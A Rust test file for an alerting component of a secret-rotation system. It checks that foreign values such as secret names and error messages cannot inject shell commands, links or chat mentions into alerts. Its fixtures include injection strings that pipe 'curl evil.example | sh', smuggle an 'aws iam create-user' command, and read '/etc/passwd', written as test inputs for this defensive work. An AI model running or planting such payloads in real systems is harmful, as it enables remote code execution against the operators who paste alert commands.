//! Anyone who may invoke a function, write a secret's value or name an alarm can write text into alerts. No such text
//! has an effect there.

use contract::{Alert, Area, Kind};
use jiff::Timestamp;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::{Places, Told, alert};
use crate::incident::Record;
use crate::message::{Detail, Failure, Success};

const SECRET: &str = "arn:aws:secretsmanager:eu-central-1:123456789012:secret:rabbitmq/payment_clone-AbCdEf";
const VERSION: &str = "0123456789abcdef0123456789abcdef";
const FUNCTION: &str = "rotation-rotation-mq";
const REQUEST: &str = "01234567-89ab-cdef-0123-456789abcdef";
const PLAYBOOKS: &str = "https://wiki/playbooks";
const HEADINGS: [&str; 6] =
    ["What happened:", "Affected:", "Since:", "What it means now:", "What was tried:", "Playbook:"];

/// Everything in an alert that somebody else wrote.
#[derive(Debug, Clone)]
struct Foreign {
    subject: String,
    message: String,
    cause: String,
    step: String,
    version: String,
    user: String,
    broker: String,
    function: String,
    request: String,
}

impl Foreign {
    fn ordinary() -> Self {
        Self {
            subject: SECRET.to_owned(),
            message: "setSecret failed: failed to read the grants of broker user payment_clone".to_owned(),
            cause: "the broker refuses the login of user admin".to_owned(),
            step: "setSecret".to_owned(),
            version: VERSION.to_owned(),
            user: "payment_clone".to_owned(),
            broker: "b-1".to_owned(),
            function: FUNCTION.to_owned(),
            request: REQUEST.to_owned(),
        }
    }

    /// The alerts when it fails, and when it has ended.
    fn alerts(&self, kind: Kind, area: Area) -> Vec<Alert> {
        let at = Timestamp::UNIX_EPOCH;
        let detail = Detail {
            message: self.message.clone(),
            causes: vec![self.cause.clone(); 4],
            step: Some(self.step.clone()),
            version: Some(self.version.clone()),
            user: Some(self.user.clone()),
            broker: Some(self.broker.clone()),
            function: Some(self.function.clone()),
            secret: Some(self.subject.clone()),
            request_id: Some(self.request.clone()),
            ..Detail::default()
        };
        let (id, subject) = ("1".to_owned(), self.subject.clone());
        let failure = Failure {
            id,
            area,
            subject: subject.clone(),
            kind,
            occurred_at: at,
            detail,
            delivery: None,
            waited: false,
        };
        let mut record = Record::new(subject.clone(), area);
        record.fail(&failure, at);
        record.succeed(&Success { id: "2".to_owned(), area, subject, at, of_test: false }, at);
        let places = Places {
            playbooks: PLAYBOOKS.to_owned(),
            secret2eks: Some("rotation-secret2eks".to_owned()),
            stack: Some("rotation".to_owned()),
        };
        let told = record.unsent.iter().map(|announcement| {
            alert(Told { announcement, subject: &self.subject, area, facts: None }, &places)
        });
        told.collect()
    }

    /// The same text in the place of every text.
    fn everywhere(text: &str) -> Self {
        let text = || text.to_owned();
        Self {
            subject: text(),
            message: text(),
            cause: text(),
            step: text(),
            version: text(),
            user: text(),
            broker: text(),
            function: text(),
            request: text(),
        }
    }
}

/// All texts of an alert.
fn texts(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => vec![text.clone()],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(fields) => fields.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}

/// The parts of a text between backticks, and the other parts, without the suite's own markup.
fn parts(text: &str) -> (Vec<String>, Vec<String>) {
    let own = |part: &str| {
        let heading = HEADINGS.iter().find_map(|heading| part.strip_prefix(&format!("*{heading}* ")));
        heading.unwrap_or(part).to_owned()
    };
    let text = text.replace(PLAYBOOKS, "PLAYBOOKS").split("\n\n").map(own).collect::<Vec<_>>().join("\n");
    let (mut code, mut words) = (Vec::new(), Vec::new());
    for (number, part) in text.split('`').enumerate() {
        (if number % 2 == 1 { &mut code } else { &mut words }).push(part.to_owned());
    }
    (code, words)
}

/// What a chat or a mail client would interpret.
fn active(words: &str) -> Option<String> {
    let characters: Vec<char> = words.chars().collect();
    let is_word = |at: Option<usize>| {
        at.and_then(|at| characters.get(at)).is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_')
    };
    let found = characters.iter().enumerate().find(|(at, character)| match character {
        '<' | '>' | '&' | '*' | '~' | '|' | '[' | ']' => true,
        '_' | '@' => !(is_word(at.checked_sub(1)) && is_word(Some(at + 1))),
        '\n' => false,
        c => {
            c.is_control()
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        }
    });
    found
        .map(|(at, character)| format!("{character:?} at {at}"))
        .or_else(|| words.contains("://").then(|| "a link".to_owned()))
}

/// A command is the command of an ordinary incident. A foreign value is in it only if it has the form of its kind.
fn check(foreign: &Foreign, kind: Kind, area: Area) -> Result<(), String> {
    let is_value = |text: &str, others: &str, lengths: std::ops::RangeInclusive<usize>| {
        lengths.contains(&text.len())
            && text.chars().all(|c| c.is_ascii_alphanumeric() || others.contains(c))
            && !text.starts_with(['-', '=', '+', '@'])
    };
    // Looser than the patterns: a value that does not even match these must not be in a command.
    let shown = |text: &str, others: &str, lengths, word: &str| match is_value(text, others, lengths) {
        true => vec![text.to_owned(), word.to_owned()],
        false => vec![word.to_owned()],
    };
    let substitutes = [
        (SECRET, shown(&foreign.subject, ":/_+=.@-", 1..=590, "SECRET")),
        (VERSION, shown(&foreign.version, "-", 32..=64, "VERSION")),
        (FUNCTION, shown(&foreign.function, "-_", 1..=64, "FUNCTION")),
        (REQUEST, shown(&foreign.request, "-", 1..=36, "REQUEST")),
    ];
    let ordinary = Foreign::ordinary().alerts(kind, area);
    for (alert, ordinary) in foreign.alerts(kind, area).iter().zip(&ordinary) {
        let (value, usual) = (json!(alert), json!(ordinary));
        // An ARN is an identifier for programs if it is the whole text.
        let is_arn = |text: &str| {
            text == foreign.subject
                && text.strip_prefix("arn:aws:secretsmanager:eu-central-1:123456789012:secret:").is_some_and(
                    |name| name.chars().all(|c| c.is_ascii_alphanumeric() || "/_+=.@-".contains(c)),
                )
        };
        for text in texts(&value).into_iter().filter(|text| !is_arn(text)) {
            let (_, words) = parts(&text);
            for words in words {
                if let Some(found) = active(&words) {
                    return Err(format!("{found} in {text}"));
                }
            }
        }
        let commands = |value: &Value| -> Vec<String> {
            texts(&value["content"]).iter().flat_map(|text| parts(text).0).collect()
        };
        let (found, mut expected) = (commands(&value), commands(&usual));
        if foreign.function.is_empty() || foreign.request.is_empty() {
            expected.retain(|command| !command.starts_with("aws logs"));
        }
        if found.len() != expected.len() {
            return Err(format!("{found:?} instead of {expected:?}"));
        }
        for (found, expected) in found.iter().zip(&expected) {
            let mut allowed = vec![expected.clone()];
            for (usual, shown) in &substitutes {
                allowed = allowed
                    .iter()
                    .flat_map(|command| shown.iter().map(|shown| command.replace(usual, shown)))
                    .collect();
            }
            if !allowed.contains(found) {
                return Err(format!("`{found}` instead of one of {allowed:?}"));
            }
        }
        let lines =
            |alert: &Alert| alert.mail().lines().filter(|line| !line.contains("Do not paste")).count();
        if lines(alert) > lines(ordinary) {
            return Err(format!("a line more in the mail: {}", alert.mail()));
        }
        if !alert.subject().chars().all(|c| c.is_ascii() && !c.is_ascii_control()) {
            return Err(format!("the subject {:?}", alert.subject()));
        }
        for own in ["*What it means now:*", "*Since:*"] {
            if !value["content"]["description"].as_str().unwrap_or_default().contains(own) {
                return Err(format!("{own} was pushed out: {value}"));
            }
        }
    }
    Ok(())
}

const AREAS: [(Kind, Area); 6] = [
    (Kind::SecretInvalid, Area::Rotation),
    (Kind::DeliveryNotSynced, Area::Delivery),
    (Kind::RevokeRefused, Area::Revocation),
    (Kind::FunctionCrashed, Area::Function),
    (Kind::AlarmRaised, Area::Alarm),
    (Kind::MessageUnknown, Area::Message),
];

#[test]
fn what_strangers_tried_is_text_in_every_alert() {
    let long = "<".repeat(3_000);
    for text in [
        // Three that were found by reading.
        "rabbitmq/payment; curl -s https://evil.example/x | sh #",
        "x>\n\n*Playbook:* <https://evil.example|rotation-failing.md>\n<!channel>",
        "<!channel> *CRITICAL* the broker is lost",
        // Their siblings.
        "arn:<https://evil|x>",
        "arn:aws:secretsmanager:eu-central-1:123456789012:secret:rabbitmq/payment;id",
        "arn:aws:secretsmanager:eu-central-1:123456789012:secret:$(curl evil.example)",
        "rabbitmq/payment' ; id ; echo '",
        "rabbitmq/payment` `id",
        "rabbitmq/payment\naws iam create-user --user-name evil",
        "--no-verify-ssl",
        "file:///etc/passwd",
        "\"}' > x; curl evil.example | sh; echo '{\"",
        "[rotation-failing.md](https://evil.example)",
        "&lt;!here&gt; @here @channel @everyone",
        "user\u{202e}cod.exe \u{1b}[2J\u{7}",
        "_a_ ~b~ __c__ \\*d\\*",
        "# Heading",
        "1. Follow the playbook: https://evil.example",
        "\u{0}",
        "",
        "   ",
        &long,
    ] {
        for (kind, area) in AREAS {
            assert_eq!(check(&Foreign::everywhere(text), kind, area), Ok(()), "{text:?} in {area:?}");
        }
    }
}

#[test]
fn a_command_that_cannot_name_the_secret_says_so_and_shows_the_name_as_text() {
    let foreign = Foreign {
        subject: "rabbitmq/payment; curl https://evil.example | sh #".to_owned(),
        ..Foreign::ordinary()
    };
    let alerts = foreign.alerts(Kind::SecretInvalid, Area::Rotation);
    let mail = alerts.first().map(Alert::mail).unwrap_or_default();
    assert!(mail.contains("aws secretsmanager rotate-secret --secret-id SECRET\n"), "{mail}");
    assert!(mail.contains("secops --stack rotation rotate SECRET --follow\n"), "{mail}");
    assert!(mail.contains("Do not paste the name above into a shell"), "{mail}");
    assert!(mail.contains("rabbitmq/payment; curl https:∕/evil.example ¦ sh #"), "{mail}");
    let value = json!(alerts.first());
    assert_eq!(value["metadata"]["relatedResources"], json!([]));
}

#[test]
fn the_longest_name_of_a_secret_stands_whole_in_every_command() {
    let arn = format!("arn:aws-us-gov:secretsmanager:us-gov-east-1:123456789012:secret:{}", "a".repeat(519));
    let foreign = Foreign {
        subject: arn.clone(),
        version: "b".repeat(64),
        function: "c".repeat(64),
        ..Foreign::everywhere(&"d".repeat(2_000))
    };
    for area in [Area::Rotation, Area::Delivery] {
        for alert in foreign.alerts(Kind::SecretInvalid, area).iter().take(1) {
            let value = json!(alert);
            let steps = texts(&value["content"]["nextSteps"]);
            assert!(steps.iter().all(|step| !step.contains('…')), "{steps:?}");
            assert!(steps.iter().any(|step| step.contains(&arn)), "{steps:?}");
            let description = value["content"]["description"].as_str().unwrap_or_default();
            assert!(description.contains(&arn) && description.contains("*Playbook:*"), "{description}");
            assert!(alert.title().contains("fails"), "{}", alert.title());
        }
    }
}

fn hostile() -> impl Strategy<Value = String> {
    let parts = prop_oneof![
        "[<>&*_~`|\\[\\]@#:/!(){}$;'\" \\\\=+-]{1,4}",
        "[a-z0-9]{1,8}",
        "\\PC{1,3}",
        "(?s).{1,3}",
        Just("<!channel>".to_owned()),
        Just("https://".to_owned()),
        Just("arn:aws:secretsmanager:eu-central-1:123456789012:secret:".to_owned()),
        Just("\n\n*Playbook:* ".to_owned()),
        Just("rabbitmq/payment".to_owned()),
    ];
    prop_oneof![4 => proptest::collection::vec(parts, 0..8).prop_map(|parts| parts.concat()), 1 => Just(SECRET.to_owned())]
}

proptest! {
    #[test]
    fn no_foreign_text_acts_in_any_alert(
        texts in proptest::array::uniform9(hostile()),
        which in 0_usize..AREAS.len(),
    ) {
        let [subject, message, cause, step, version, user, broker, function, request] = texts;
        let foreign = Foreign { subject, message, cause, step, version, user, broker, function, request };
        let (kind, area) = AREAS.get(which).copied().unwrap_or(AREAS[0]);
        prop_assert_eq!(check(&foreign, kind, area), Ok(()));
    }
}
